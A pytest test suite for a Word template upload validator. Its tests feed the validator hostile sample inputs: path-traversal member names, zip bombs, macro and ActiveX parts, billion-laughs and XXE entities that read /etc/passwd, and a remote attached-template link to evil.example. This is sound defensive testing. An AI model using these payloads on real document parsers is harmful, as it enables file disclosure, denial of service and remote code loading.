from __future__ import annotations

import warnings
import zipfile
from io import BytesIO

import pytest

from templates.errors import RejectedTemplate
from templates.upload import MiB, check_template
from tests.templates.docx_factory import make_docx

GOOD = make_docx(
    ["Өтініш {{ applicant.name }}", "{% for p in points %}{{ p.text }}{% endfor %}"],
    header="{{ date|long_date }}",
    footer="{{ number|number }}",
    table=[["{{ applicant.iin }}", "{% if x is defined %}{{ x }}{% endif %}"]],
)
MACRO_CT = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def rezip(
    base: bytes = GOOD,
    *,
    replace: dict[str, bytes | None] | None = None,
    add: list[tuple[str, bytes]] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """``base`` with members replaced (``None`` drops one) and extra members appended."""
    replace = replace or {}
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(base)) as src, zipfile.ZipFile(out, "w", compression) as dst:
        for name in src.namelist():
            new = replace.get(name, src.read(name))
            if new is not None:
                dst.writestr(name, new)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about duplicate names
            for name, data in add or []:
                dst.writestr(name, data)
    return out.getvalue()


def member(name: str, base: bytes = GOOD) -> bytes:
    with zipfile.ZipFile(BytesIO(base)) as zf:
        return zf.read(name)


def edit(name: str, old: str, new: str, base: bytes = GOOD) -> bytes:
    text = member(name, base).decode()
    assert old in text
    return rezip(base, replace={name: text.replace(old, new).encode()})


def rejected(data: bytes, **kwargs: int) -> str:
    with pytest.raises(RejectedTemplate) as info:
        check_template(data, **kwargs)
    assert set(info.value.fields) == {"file"}
    return info.value.fields["file"]


def test_a_good_template_passes() -> None:
    check_template(GOOD)
    check_template(rezip(add=[("word/media/image1.png", b"\x89PNG...")]))


def test_too_large() -> None:
    assert "larger than 1 MiB" in rejected(GOOD + b"\0" * MiB, max_bytes=MiB)


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 broken", b"plain text", b"%PDF-1.7"])
def test_not_a_zip(data: bytes) -> None:
    assert "not a zip" in rejected(data)


@pytest.mark.parametrize(
    "name", ["/etc/passwd", "../evil.xml", "word/../../evil.xml", "C:/evil.xml", "\\evil.xml"]
)
def test_unsafe_member_names(name: str) -> None:
    assert "unsafe member name" in rejected(rezip(add=[(name, b"x")]))


def test_corrupt_member() -> None:
    data = bytearray(rezip(compression=zipfile.ZIP_STORED))
    at = data.index(b"<w:body>")
    data[at + 1] = ord("x")  # stored bytes no longer match the CRC
    assert "corrupt" in rejected(bytes(data))


def test_duplicate_member_names() -> None:
    assert "duplicate member" in rejected(rezip(add=[("word/document.xml", b"<x/>")]))


def test_total_uncompressed_size() -> None:
    bomb = rezip(add=[("word/media/big.bin", b"\0" * (51 * MiB))])
    assert "more than 50 MiB" in rejected(bomb)


def test_compression_ratio() -> None:
    bomb = rezip(add=[("word/media/zeros.bin", b"\0" * (20 * MiB))])
    assert "compressed more than 100:1" in rejected(bomb)


def test_too_many_members() -> None:
    many = rezip(add=[(f"customXml/item{i}.bin", b"x") for i in range(1001)])
    assert "more than 1000 members" in rejected(many)


def test_not_a_word_document() -> None:
    assert "not a Word document" in rejected(rezip(replace={"word/document.xml": None}))
    types = member("[Content_Types].xml").decode().replace(MAIN_CT, "application/xml")
    assert "not a Word document" in rejected(rezip(replace={"[Content_Types].xml": types.encode()}))
    only_types = BytesIO()
    with zipfile.ZipFile(only_types, "w") as zf:
        zf.writestr("[Content_Types].xml", member("[Content_Types].xml"))
    assert "not a Word document" in rejected(only_types.getvalue())


@pytest.mark.parametrize(
    "extra",
    [
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        ("word/vbaData.xml", b"<wne:vbaSuppData xmlns:wne='urn:x'/>"),
        ("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='urn:x'/>"),
    ],
)
def test_macros_and_activex(extra: tuple[str, bytes]) -> None:
    assert "macros" in rejected(rezip(add=[extra]))


def test_macro_enabled_content_type() -> None:
    types = member("[Content_Types].xml").decode().replace(MAIN_CT, MACRO_CT)
    assert "macro-enabled" in rejected(rezip(replace={"[Content_Types].xml": types.encode()}))


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE w:document [
 <!ENTITY a "lol">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
"""


@pytest.mark.parametrize("prolog", [BILLION_LAUGHS, XXE])
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "_rels/.rels"])
def test_dtds_and_entities(prolog: str, part: str) -> None:
    text = member(part).decode()
    body = text[text.index("?>") + 2 :]
    assert "DTD" in rejected(rezip(replace={part: (prolog + body).encode()}))


def test_malformed_xml() -> None:
    broken = rezip(replace={"word/styles.xml": b"<w:styles><unclosed></w:styles>"})
    assert "not well-formed" in rejected(broken)


def test_external_relationships() -> None:
    rels = member("word/_rels/document.xml.rels").decode()
    attached = (
        '<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    hostile = rels.replace("</Relationships>", attached)
    reason = rejected(rezip(replace={"word/_rels/document.xml.rels": hostile.encode()}))
    assert "evil.example" in reason


def test_hyperlinks_are_allowed() -> None:
    rels = member("word/_rels/document.xml.rels").decode()
    link = (
        '<Relationship Id="rId99" TargetMode="External" Target="https://adilet.zan.kz" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'hyperlink"/></Relationships>'
    )
    check_template(
        rezip(
            replace={
                "word/_rels/document.xml.rels": rels.replace("</Relationships>", link).encode()
            }
        )
    )


SPLITS = [
    ("{{ name }}", "{{ na</w:t></w:r><w:r><w:t>me }}"),
    ("{{ name }}", "{</w:t></w:r><w:r><w:t>{ name }}"),
    ("{{ name }}", "{{ name }</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>}"),
    ("{{ name }}", "{{ na</w:t><w:t>me }}"),
    ("{% endif %}", "{% en</w:t></w:r><w:r><w:t>dif %}"),
]


@pytest.mark.parametrize(("old", "new"), SPLITS)
def test_tags_split_across_runs(old: str, new: str) -> None:
    template = make_docx(["Құрметті {{ name }}!", "{% if x %}yes{% endif %}"])
    check_template(template)
    reason = rejected(edit("word/document.xml", old, new, template))
    assert "split across formatting runs" in reason
    assert "word/document.xml" in reason


def test_split_tag_in_a_header_names_the_paragraph() -> None:
    template = make_docx(["body"], header="Күні: {{ date }}")
    reason = rejected(
        edit(
            "word/header1.xml",
            "<w:t>Күні: {{ date }}</w:t>",
            "<w:t>Күні: {{ da</w:t></w:r><w:r><w:t>te }}</w:t>",
            template,
        )
    )
    assert "word/header1.xml" in reason and "'Күні: {{ date }}'" in reason


def test_unclosed_tag() -> None:
    assert "not closed" in rejected(make_docx(["Hello {{ name"]))


@pytest.mark.parametrize(
    ("paragraphs", "expected"),
    [
        (["{% for %}"], "syntax error"),
        (["{% if x %}open"], "syntax error"),
        (["{{ x | nosuchfilter }}"], "No filter named 'nosuchfilter'"),
        (["{{ x|safe }}"], "No filter named 'safe'"),
        (["{% autoescape false %}{{ x }}{% endautoescape %}"], "autoescape"),
    ],
)
def test_jinja_errors(paragraphs: list[str], expected: str) -> None:
    assert expected in rejected(make_docx(paragraphs))


def test_jinja_error_in_a_footer() -> None:
    reason = rejected(make_docx(["ok"], footer="{{ broken( }}"))
    assert "footer" in reason and "syntax error" in reason
